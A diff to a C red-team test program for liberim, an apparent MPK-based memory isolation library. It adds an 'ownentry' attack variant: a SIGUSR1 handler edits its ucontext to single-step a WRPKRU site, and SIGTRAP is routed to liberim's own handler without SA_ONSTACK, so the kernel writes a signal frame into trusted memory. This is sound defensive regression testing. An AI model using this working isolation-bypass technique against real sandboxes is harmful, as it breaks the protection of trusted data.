@@ -38,10 +38,27 @@
  *   rt_gatewin none nowrpkru control   CONTROL of the mechanism: without
  *                             keys the frame lands on the target (exit 0
  *                             when the write WORKED, 1 when it did not)
+ *
+ * Red team 50 (ownentry, the same window armed another way; it worked on
+ * 6.1 and 6.12, uid 0 and 1000, before do_sigaction installed liberim's own
+ * handlers as liberim does): liberim's own handler entry, as
+ * sigaction(SIGSEGV, NULL, &old) reports it, handed back to sigaction() for
+ * SIGTRAP WITHOUT SA_ONSTACK -- the kernel then entered it on the
+ * interrupted %rsp, writing the frame there first.  The single step is armed
+ * without POPF: an ordinary SIGUSR1 handler edits its ucontext (RIP = the
+ * WRPKRU site, RSP = inside trusted globals, every register = the attacker's
+ * value, EAX = ECX = EDX = 0, TF set) and returns through liberim's own
+ * restorer.
+ *   rt_gatewin mpk ownentry [exec]      ATTACK, write or exec target
+ *   rt_gatewin mpk ownentry ownhandler  CONTROL: SIGTRAP's handler is the
+ *                             attacker's own (liberim wraps it with
+ *                             SA_ONSTACK): blocked by the relay
+ *   ... uid1000               any of the above after dropping to uid 1000
  * Exit 0 when blocked (with "control": when it worked), 1 otherwise, 2 when
  * the program could not set itself up.
  * Prints "ATTACK WORKED" with the bytes, or "BLOCKED". */
 #include <cpuid.h>
+#include <grp.h>
 #include <pthread.h>
 #include <signal.h>
 #include <stdint.h>
@@ -55,6 +72,7 @@
 #include <unistd.h>
 
 #include "erim.h"
+#include "erim_check.h"
 #include "gw_erim.h"
 #include "gw_trusted.h"
 
@@ -100,10 +118,10 @@ uint64_t gw_hash_impl(uint64_t x)
 struct shared {
 	volatile uint64_t seen, iters, leak, leak_pkru;
 	volatile int ready, stop, fired, survived;
-	volatile uint64_t target, rsp, site;
+	volatile uint64_t target, rsp, site, entry, trap_flags, trap_handler;
 };
 static struct shared *sh;
-static int use_exec, use_nowrpkru, use_direct, use_control;
+static int use_exec, use_nowrpkru, use_direct, use_control, use_ownentry, use_own;
 
 static int ospke;
 
@@ -150,7 +168,7 @@ __asm__(".text\n\t.globl gw_fire\n\t.type gw_fire,@function\ngw_fire:\n\t"
         "mov gw_saved_rsp(%rip), %rsp\n\t"
         "pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n");
 
-static volatile uint64_t fire_rip;
+static volatile uint64_t fire_rip, fire_rsp, fire_val, fire_eax;
 
 /* the last handler: back to gw_fire's caller, TF off (runs only where the
  * frame could be written: the none back end) */
@@ -181,6 +199,30 @@ static void on_step(int sig, siginfo_t *si, void *ucv)
 		sa.sa_flags = SA_SIGINFO;
 		sigaction(SIGTRAP, &sa, NULL);
 	}
+}
+
+/* ownentry: SIGUSR1, an ordinary handler behind liberim's trampoline: it edits its
+ * ucontext so that liberim's own restorer (rt_sigreturn) lands the thread on
+ * the instruction at fire_rip with RSP = fire_rsp, every register = fire_val,
+ * EAX = fire_eax, ECX = EDX = 0 and RFLAGS.TF set: one step, then a trap.
+ * (No raw system call: the frame's PKRU stays the untrusted one, so the
+ * trampoline's check after the handler passes.) */
+static void on_usr1(int sig, siginfo_t *si, void *ucv)
+{
+	ucontext_t *uc = ucv;
+	greg_t *g = uc->uc_mcontext.gregs;
+
+	(void)sig;
+	(void)si;
+	g[REG_R8] = g[REG_R9] = g[REG_R10] = g[REG_R11] = (greg_t)fire_val;
+	g[REG_R12] = g[REG_R13] = g[REG_R14] = g[REG_R15] = (greg_t)fire_val;
+	g[REG_RDI] = g[REG_RSI] = g[REG_RBP] = g[REG_RBX] = (greg_t)fire_val;
+	g[REG_RAX] = (greg_t)fire_eax;
+	g[REG_RCX] = 0;
+	g[REG_RDX] = 0;
+	g[REG_RSP] = (greg_t)fire_rsp;
+	g[REG_RIP] = (greg_t)fire_rip;
+	g[REG_EFL] |= 0x100;
 }
 
 static void *reader(void *arg)
@@ -260,7 +302,45 @@ static int child(void)
 		pthread_join(t, NULL);
 		return 0;
 	}
-	{
+	if (use_ownentry) {
+		struct sigaction sa, cur;
+
+		/* liberim's own handler entry, as sigaction() reports it for
+		 * SIGSEGV (liberim's segv handler moved behind the entry) */
+		memset(&cur, 0, sizeof cur);
+		if (sigaction(SIGSEGV, NULL, &cur) != 0)
+			return 2;
+		sh->entry = (uint64_t)(uintptr_t)cur.sa_sigaction;
+		memset(&sa, 0, sizeof sa);
+		/* THE DECISIVE STEP: liberim's own entry handed back to sigaction()
+		 * for SIGTRAP without SA_ONSTACK (the liberim of red team 50
+		 * installed it unwrapped, with the caller's flags).  CONTROL
+		 * (ownhandler): the attacker's own handler, which liberim
+		 * installs with SA_ONSTACK. */
+		sa.sa_sigaction = use_own ? on_trap : cur.sa_sigaction;
+		sa.sa_flags = SA_SIGINFO;
+		if (sigaction(SIGTRAP, &sa, NULL) != 0)
+			return 2;
+		{
+			struct sigaction k;
+
+			memset(&k, 0, sizeof k);
+			sigaction(SIGTRAP, NULL, &k);
+			sh->trap_flags = (uint64_t)k.sa_flags;
+			sh->trap_handler = (uint64_t)(uintptr_t)k.sa_sigaction;
+		}
+		memset(&sa, 0, sizeof sa);
+		sa.sa_sigaction = on_usr1;
+		sa.sa_flags = SA_SIGINFO;
+		if (sigaction(SIGUSR1, &sa, NULL) != 0)
+			return 2;
+		fire_rip = rip;
+		fire_rsp = rsp;
+		fire_val = value;
+		fire_eax = 0;
+		sh->fired = 1;
+		raise(SIGUSR1);
+	} else {
 		static char alt[65536] __attribute__((aligned(64)));
 		stack_t ss = { .ss_sp = alt, .ss_size = sizeof alt, .ss_flags = 0 };
 		struct sigaction sa;
@@ -271,10 +351,10 @@ static int child(void)
 		sa.sa_sigaction = on_step;
 		sa.sa_flags = SA_SIGINFO | SA_ONSTACK;
 		sigaction(SIGTRAP, &sa, NULL);
+		fire_rip = rip;
+		sh->fired = 1;
+		gw_fire(rip, rsp, value, 0);
 	}
-	fire_rip = rip;
-	sh->fired = 1;
-	gw_fire(rip, rsp, value, 0);
 	sh->survived = 1;
 	for (int i = 0; i < 2000000 && !sh->seen; i++)
 		__asm__ volatile("pause");
@@ -286,15 +366,23 @@ static int child(void)
 static char errlog[65536];
 static size_t errlen;
 
+/* one attempt, in a child whose output (liberim's reports go to stderr) the
+ * parent collects */
+static void child_entry(void *arg)
+{
+	(void)arg;
+	_exit(child());
+}
+
 int main(int argc, char **argv)
 {
 	struct sigaction sa;
 	struct utsname u;
-	pid_t pid;
-	int st = 0, worked, pfd[2];
+	int st = 0, worked;
 
 	if (argc < 2) {
-		fprintf(stderr, "usage: %s mpk|none [exec] [nowrpkru] [direct] [control]\n", argv[0]);
+		fprintf(stderr, "usage: %s mpk|none [exec] [nowrpkru] [direct] [control] [ownentry] "
+		        "[ownhandler] [uid1000]\n", argv[0]);
 		return 2;
 	}
 	setenv("ERIM_BACKEND", argv[1], 1);
@@ -307,51 +395,47 @@ int main(int argc, char **argv)
 			use_direct = 1;
 		else if (!strcmp(argv[i], "control"))
 			use_control = 1;
-		else
+		else if (!strcmp(argv[i], "ownentry"))
+			use_ownentry = 1;
+		else if (!strcmp(argv[i], "ownhandler"))
+			use_ownentry = use_own = 1;
+		else if (!strcmp(argv[i], "uid1000")) {
+			/* drop to an ordinary user first: nothing here needs root */
+			if (setgroups(0, NULL) != 0 || setresgid(1000, 1000, 1000) != 0 ||
+			    setresuid(1000, 1000, 1000) != 0)
+				return 2;
+		} else
 			return 2;
 	}
 	uname(&u);
-	printf("rt_gatewin: kernel %s, back end %s, uid %d, %s%s%s\n", u.release, argv[1],
+	printf("rt_gatewin: kernel %s, back end %s, uid %d, %s%s%s%s\n", u.release, argv[1],
 	       (int)getuid(), use_exec ? "exec" : "write", use_nowrpkru ? ", CONTROL (no WRPKRU)" : "",
-	       use_direct ? ", direct load" : "");
+	       use_direct ? ", direct load" : "",
+	       use_ownentry ? ", armed by a ucontext edit, SIGTRAP to liberim's own entry" : "");
+	if (use_own)
+		printf("rt_gatewin: CONTROL: the attacker's own SIGTRAP handler (liberim wraps it)\n");
 	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 	if (sh == MAP_FAILED)
 		return 2;
 	(void)sa;
 	for (int attempt = 1; attempt <= ATTEMPTS; attempt++) {
 		memset((void *)sh, 0, sizeof *sh);
-		errlen = 0;
-		if (pipe(pfd) != 0)
+		st = check_child(child_entry, NULL, errlog, sizeof errlog);
+		if (st == -1)
 			return 2;
-		fflush(stdout);
-		pid = fork();
-		if (pid < 0)
-			return 2;
-		if (pid == 0) {
-			close(pfd[0]);
-			dup2(pfd[1], 2);
-			_exit(child());
-		}
-		close(pfd[1]);
-		for (;;) {
-			ssize_t n = read(pfd[0], errlog + errlen, sizeof errlog - 1 - errlen);
-
-			if (n <= 0)
-				break;
-			errlen += (size_t)n;
-		}
-		errlog[errlen] = 0;
-		close(pfd[0]);
-		waitpid(pid, &st, 0);
+		errlen = strlen(errlog);
 		printf("rt_gatewin: attempt %d: child %s %d; reader %llu gate calls; site %#llx "
-		       "target %#llx rsp %#llx; survived %s; seen %#llx\n", attempt,
+		       "target %#llx rsp %#llx; survived %s; seen %#llx; liberim's entry %#llx; SIGTRAP "
+		       "installed: handler %#llx flags %#llx\n", attempt,
 		       WIFSIGNALED(st) ? "killed by signal" : "exited",
 		       WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st),
 		       (unsigned long long)sh->iters, (unsigned long long)sh->site,
 		       (unsigned long long)sh->target, (unsigned long long)sh->rsp,
-		       sh->survived ? "yes" : "no", (unsigned long long)sh->seen);
+		       sh->survived ? "yes" : "no", (unsigned long long)sh->seen,
+		       (unsigned long long)sh->entry, (unsigned long long)sh->trap_handler,
+		       (unsigned long long)sh->trap_flags);
 		if (errlen)
-			printf("rt_gatewin: child's stderr: %s", errlog);
+			printf("rt_gatewin: child's output:\n%s", errlog);
 		if (WIFEXITED(st) && WEXITSTATUS(st) == 2) {
 			printf("rt_gatewin: the child could not set itself up\n");
 			return 2;
